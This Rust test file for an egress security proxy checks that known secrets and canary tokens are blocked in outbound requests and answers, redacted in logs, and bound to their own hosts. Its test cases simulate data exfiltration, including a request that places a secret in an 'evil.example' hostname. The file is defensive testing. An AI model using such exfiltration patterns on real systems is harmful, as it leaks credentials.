//! Known secrets in a data plane: the store on disk, what outbound requests are asked for, and what happens when the
//! store cannot be read.

use crate::common::control::ControlPlane;
use crate::common::egress::{Fields, Host, answer, ask, client, records, yaml};
use crate::common::{PLAIN, Site, Wish, eventually, parse_config, signed, snapshot};
use oktsec_contract::config::Config;
use oktsec_contract::link::ToControl;
use oktsec_contract::snapshot::Snapshot;
use oktsec_scanner::secrets::{SecretKey, SecretKind, SecretStore};

const VALUE: &str = "blue+Harbour9/tide";
const BASE64: &str = "Ymx1ZStIYXJib3VyOS90aWRl";
const NEW: &str = "Orchid_77_lantern";

/// Writes a store beside a site's log, with its key; the token of its canary.
fn store(site: &Site, values: &[&str]) -> String {
    let paths = &site.paths;
    let folder = paths.secrets_store.parent().unwrap();
    std::fs::create_dir_all(folder).unwrap();
    let key = SecretKey::load_or_create(&paths.secrets_key, [8; 32]).unwrap();
    let mut store = SecretStore::new(key);
    for value in values {
        store
            .add("orders-db", SecretKind::Value, value.as_bytes())
            .unwrap();
    }
    let token = store.plant("courier", &[4; 32]).unwrap();
    store.write(&paths.secrets_store).unwrap();
    token
}

fn with_seal(revision: u64, config: Config, seal: &str) -> Snapshot {
    Snapshot {
        secrets: Some(seal.to_owned()),
        ..snapshot(revision, config)
    }
}

/// A site without a snapshot, its configuration, and the line it is published on.
fn begin(yaml: &str) -> (Site, Config, ControlPlane) {
    let site = Site::new(Wish {
        yaml,
        snapshot: false,
        tune: Box::new(|options| {
            if let Some(egress) = options.egress.as_mut() {
                for (_, port) in &mut egress.listeners {
                    *port = 0;
                }
            }
        }),
        ..Wish::default()
    });
    let mut config = parse_config(yaml, site.dir.path());
    config.server.port = site.address().port();
    let listener = ControlPlane::listen(&site);
    let (line, _) = ControlPlane::accept(&listener);
    (site, config, line)
}

fn decision(site: &Site, content: &str) -> String {
    let answer = site.post(&signed("alice", "bob", content)).json();
    answer["policy_decision"].as_str().unwrap().to_owned()
}

#[test]
fn a_store_that_changed_is_read_again_and_one_that_cannot_be_read_changes_nothing() {
    let (site, config, mut line) = begin(PLAIN);
    // Nothing is decided without what should be looked for.
    let first = with_seal(1, config.clone(), "a");
    assert!(matches!(line.publish(&first), ToControl::Refused { .. }));
    assert_eq!(site.post(&signed("alice", "bob", "too early")).status, 503);

    store(&site, &[VALUE]);
    assert_eq!(line.publish(&first), ToControl::Applied { revision: 1 });
    assert_eq!(decision(&site, VALUE), "content_blocked");
    assert_eq!(decision(&site, NEW), "allow");

    store(&site, &[VALUE, NEW]);
    let second = with_seal(2, config.clone(), "b");
    assert_eq!(line.publish(&second), ToControl::Applied { revision: 2 });
    assert_eq!(decision(&site, NEW), "content_blocked");

    std::fs::write(&site.paths.secrets_store, b"damaged").unwrap();
    let third = with_seal(3, config.clone(), "c");
    assert!(matches!(line.publish(&third), ToControl::Refused { .. }));
    assert_eq!(decision(&site, VALUE), "content_blocked");

    let without = snapshot(4, config);
    assert_eq!(line.publish(&without), ToControl::Applied { revision: 4 });
    assert_eq!(decision(&site, VALUE), "allow");
}

#[test]
fn a_restart_without_a_readable_store_decides_nothing() {
    let (mut site, config, mut line) = begin(PLAIN);
    store(&site, &[VALUE]);
    line.publish(&with_seal(1, config, "a"));
    eventually("the snapshot is kept", || site.paths.snapshot.exists());
    drop(line);
    std::fs::remove_file(&site.paths.secrets_key).unwrap();
    site.stop();
    // The rules are compiled by now, so the snapshot is looked at before this returns.
    site.begin(&|_| {});
    assert_eq!(site.post(&signed("alice", "bob", "hello")).status, 503);
    assert_eq!(site.get("/readyz").status, 503);
}

#[test]
fn outbound_requests_are_asked_for_known_secrets_in_every_part() {
    let (site, config, mut line) = begin(&yaml(""));
    let token = store(&site, &[VALUE, "orchid77lantern"]);
    line.publish(&with_seal(1, config, "a"));
    let host = Host::answering(answer("fine"));
    let basic = format!("Bearer {token}");
    let long = format!("{}{BASE64}{}", "x y ".repeat(40_000), " z".repeat(9));
    let cases: [(&str, &str, Fields<'_>, &[u8]); 6] = [
        ("path", "/p/blue%2BHarbour9%2Ftide", &[], b""),
        ("header", "/", &[("X-Note", VALUE)], b""),
        ("body", "/", &[], VALUE.as_bytes()),
        ("base64 far into a body", "/", &[], long.as_bytes()),
        (
            "json body",
            "/",
            &[("Content-Type", "application/json")],
            br#"{"k":"blue+Harbour9\/tide"}"#,
        ),
        (
            "canary as a credential",
            "/",
            &[("Authorization", &basic)],
            b"",
        ),
    ];
    for (what, path, headers, body) in cases {
        let mut named = client(&site);
        named.send(&ask("POST", &host.url(path), headers, body));
        let refused = named.receive().unwrap();
        assert_eq!(refused.status, 403, "{what}: {}", refused.text());
        assert!(!refused.text().contains("Harbour"), "{what}");
    }
    let reached = host.reached.text();
    assert!(!reached.contains("Harbour") && !reached.contains(&token));
    // Names lose their capitals, so this one is a value without any.
    let mut named = client(&site);
    named.send(&ask(
        "GET",
        "http://orchid77lantern.evil.example/",
        &[],
        b"",
    ));
    assert_eq!(named.receive().unwrap().status, 403);
    // A value that a client proves itself with is for the host.
    let mut proving = client(&site);
    let bearer = format!("Bearer {VALUE}");
    proving.send(&ask(
        "GET",
        &host.url("/"),
        &[("Authorization", &bearer)],
        b"",
    ));
    assert_eq!(proving.receive().unwrap().status, 200);

    let all = records(&site);
    let rules: Vec<_> = all
        .iter()
        .filter_map(|record| record["rules_triggered"][0]["match"].as_str())
        .collect();
    assert_eq!(rules.len(), 7, "{all:#?}");
    assert!(
        [&rules[..5], &rules[6..]]
            .concat()
            .iter()
            .all(|text| text.contains("KNOWN_SECRET(orders-db)"))
    );
    assert!(rules[5].contains("CANARY(courier)"), "{rules:?}");
    let kept = serde_json::to_string(&all).unwrap();
    assert!(kept.contains("[REDACTED].evil.example") && !kept.contains("orchid"));
    assert!(
        !kept.contains("Harbour") && !kept.contains(&token),
        "{kept}"
    );
    assert!(site.get("/metrics").text().contains("EXS-001"));
    assert!(!site.get("/metrics").text().contains("orders-db"));
}

#[test]
fn answers_are_asked_too() {
    let (site, config, mut line) = begin(&yaml(""));
    store(&site, &[VALUE]);
    line.publish(&with_seal(1, config, "a"));
    let host = Host::answering(answer(&format!("the password is {VALUE}")));
    let mut named = client(&site);
    named.send(&ask("GET", &host.url("/"), &[], b""));
    let refused = named.receive().unwrap();
    assert_eq!(refused.status, 403);
    assert!(!refused.text().contains("Harbour"));
}

#[test]
fn a_secret_from_one_host_is_known_on_its_way_to_another() {
    let flags = "rules: [{id: T-SECRET, action: allow-and-flag}]\n";
    let site = crate::common::egress::site(&format!("{flags}{}", yaml("")));
    let host = Host::answering(answer("here: tok-abcdef012345"));
    let here = host.url("/");
    let other = Host::answering(answer("thanks"));
    let elsewhere = other.url("/").replace("127.0.0.1", "localhost");
    // The same host by another name gives the same.
    let alias = here.replace("127.0.0.1", "localhost");
    // Read from its end, no rule of the tests knows it.
    let turned: &[u8] = b"543210fedcba-kot";
    let ask_as = |agent: &str, method: &str, url: &str, body: &[u8]| {
        let mut client = client(&site);
        client.send(&ask(method, url, &[("X-Oktsec-Agent", agent)], body));
        client.receive().unwrap().status
    };
    assert_eq!(
        ask_as("alice", "POST", &elsewhere, turned),
        200,
        "not given yet"
    );
    assert_eq!(ask_as("alice", "GET", &here, b""), 200);
    assert_eq!(ask_as("alice", "POST", &elsewhere, turned), 403);
    assert_eq!(ask_as("alice", "POST", &here, turned), 200, "back");
    assert_eq!(
        ask_as("mallory", "POST", &elsewhere, turned),
        200,
        "another agent"
    );
    let all = records(&site);
    let refused = all.iter().find(|r| r["status"] == "blocked").unwrap();
    let finding = &refused["rules_triggered"][0];
    assert_eq!(finding["rule_id"], "EXS-003");
    assert_eq!(finding["match"], "[REDACTED:SEEN_SECRET(127.0.0.1):len=16]");
    assert_eq!(ask_as("alice", "GET", &alias, b""), 200);
    for url in [&here, &elsewhere] {
        assert_eq!(ask_as("alice", "POST", url, turned), 200, "both gave it");
    }
}

#[test]
fn what_belongs_to_a_host_goes_there_and_nowhere_else_not_even_as_a_credential() {
    let (site, config, mut line) = begin(&yaml(""));
    store(&site, &[VALUE]);
    let paths = &site.paths;
    let key = SecretKey::load(&paths.secrets_key).unwrap();
    let mut store = SecretStore::read(&paths.secrets_store, key)
        .unwrap()
        .unwrap();
    let own = vec![String::from("*.example"), String::from("127.0.0.1")];
    assert!(store.bind("orders-db", own).unwrap());
    store.write(&paths.secrets_store).unwrap();
    line.publish(&with_seal(1, config, "a"));

    let host = Host::answering(answer(&format!("you said {VALUE}")));
    let own = host.url("/p/blue%2BHarbour9%2Ftide");
    let other = host.url("/").replace("127.0.0.1", "localhost");
    let bearer = [("Authorization", &*format!("Bearer {VALUE}"))];
    let basic = [("Authorization", "Basic dTpibHVlK0hhcmJvdXI5L3RpZGU=")];
    let ask_for = |url: &str, headers: Fields<'_>, body: &[u8]| {
        let mut named = client(&site);
        named.send(&ask("POST", url, headers, body));
        named.receive().unwrap().status
    };
    for headers in [&bearer, &basic] {
        assert_eq!(
            ask_for(&own, headers, VALUE.as_bytes()),
            200,
            "its own host"
        );
        assert_eq!(ask_for(&other, headers, b""), 403, "another host");
    }
    assert_eq!(ask_for(&other, &[], VALUE.as_bytes()), 403);
    assert_eq!(ask_for(&other, &[], b""), 403, "its answer holds it");
    // Nor to another agent.
    assert_eq!(decision(&site, VALUE), "content_blocked");
    let kept = serde_json::to_string(&records(&site)).unwrap();
    assert!(!kept.contains("Harbour"), "{kept}");
}
